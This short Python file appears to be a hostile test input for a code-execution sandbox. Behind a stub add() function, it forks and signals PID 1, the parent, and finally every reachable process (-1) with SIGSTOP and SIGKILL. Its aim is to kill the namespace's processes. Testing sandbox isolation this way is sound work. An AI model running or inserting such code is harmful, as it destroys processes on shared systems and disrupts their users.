# TRIES: end or stop the first process of the namespace, and all others
import os, signal
def add(a, b): return None
if os.fork() == 0:
    for number in range(1, 65):
        if number == signal.SIGKILL:
            continue
        for pid in (1, os.getppid()):
            if pid == 1 or number != signal.SIGTERM:
                try:
                    os.kill(pid, number)
                except (OSError, ValueError):
                    pass
    os.kill(1, signal.SIGKILL)
    os.kill(-1, signal.SIGSTOP)
    os.kill(-1, signal.SIGKILL)
    os._exit(0)
signal.pause()
